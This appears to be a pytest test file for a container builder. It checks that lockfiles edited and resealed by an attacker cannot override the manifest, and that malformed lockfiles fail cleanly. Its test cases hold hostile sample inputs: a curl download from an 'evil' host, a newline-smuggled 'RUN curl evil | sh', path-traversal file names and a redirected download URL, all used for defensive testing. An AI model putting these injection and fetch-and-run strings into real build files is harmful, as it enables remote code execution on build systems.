"""A lockfile is checked before it is used: one that is not a lock is one line and exit 2, and one
edited and resealed (its digest recomputed, as an attacker would) cannot override its manifest."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from builder import lock as lock_io
from builder.inputs.download_package import LockedDownload
from builder.model.arch import Arch
from builder.model.errors import InputError
from builder.plan.prepare import resolve_inputs
from tests.golden_plan import golden_request
from tests.unit.conftest import cli


def reseal(path: Path, edit: dict[str, object]) -> None:
    """Edit a lock's JSON (dotted paths) and recompute its digest, as an attacker would."""
    data = json.loads(path.read_text())
    for dotted, value in edit.items():
        *parents, last = dotted.split(".")
        node = data
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        node[last] = value
    try:
        data["lock_sha256"] = lock_io.Lock.model_validate(data).content_sha256()
    except Exception:  # an invalid value: the digest cannot be computed from the model, seal by hand
        data["lock_sha256"] = "0" * 64
    path.write_text(json.dumps(data))


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (
            {"architectures.x86_64.packages.0.command": "curl http://evil/x > {output_dir}/tk_x86_64.run"},
            "architectures.x86_64.packages.toolkit.command: the lock has",
        ),
        ({"toolkit.version": "8.3.RC1\nRUN curl evil | sh"}, "toolkit.version"),
        ({"base.image": "attacker/img:latest"}, "base.image"),
        ({"base.image": "attacker/img@sha256:" + "a" * 64}, "base.image: the lock has 'attacker/img@sha256:"),
        ({"architectures.x86_64.packages.0.file": "../Dockerfile"}, "must be a bare file name"),
        ({"components.0.source.path": "../../../etc"}, "components.first.source.path: the lock has"),
    ],
    ids=["package-origin", "newline-version", "unpinned-base", "other-pinned-base", "file-escape", "path-source"],
)
def test_a_resealed_lock_cannot_override_the_manifest(
    project: Path, capsys: pytest.CaptureFixture[str], edit: dict[str, object], expected: str
) -> None:
    assert cli(capsys, project, "lock", "demo")[0] == 0
    reseal(project / "lockfiles" / "demo.lock.json", edit)
    for command in (["render", "demo"], ["lock", "--check", "demo"]):
        code, out, err = cli(capsys, project, *command)
        assert code in (1, 2) and expected in err, (command, err)
        assert "RUN curl" not in out and "Traceback" not in err


@pytest.mark.parametrize("content", [b"[]", b"null", b"\xff\xfe", b"{", b'{"lock_version": 2}', b"42"])
def test_bad_lockfiles_give_one_line_and_exit_2(
    project: Path, capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    (project / "lockfiles").mkdir()
    (project / "lockfiles" / "demo.lock.json").write_bytes(content)
    code, _, err = cli(capsys, project, "render", "demo")
    assert code == 2 and len(err.strip().splitlines()) == 1 and "demo.lock.json" in err, err


def test_a_resealed_lock_cannot_point_a_pinned_package_elsewhere() -> None:
    """The golden stack's toolkit is a download pinned by sha256 in the manifest."""
    request = golden_request()
    section = request.lock.architectures[Arch.X86_64]
    pinned = section.packages[0]
    assert isinstance(pinned, LockedDownload)
    evil = pinned.model_copy(update={"url": "https://evil.example/tk.zip", "sha256": "e" * 64})
    tampered = request.lock.model_copy(
        update={"architectures": {Arch.X86_64: section.model_copy(update={"packages": [evil, *section.packages[1:]]})}}
    ).sealed()
    assert tampered.lock_sha256 != request.lock.lock_sha256  # resealed: its own digest is fine
    with pytest.raises(InputError) as info:
        resolve_inputs(dataclasses.replace(request, lock=tampered), say=print)
    assert "architectures.x86_64.packages.toolkit.url: the lock has 'https://evil.example/tk.zip'" in str(info.value)
    assert "(and 1 more)" in str(info.value)  # the sha256 too
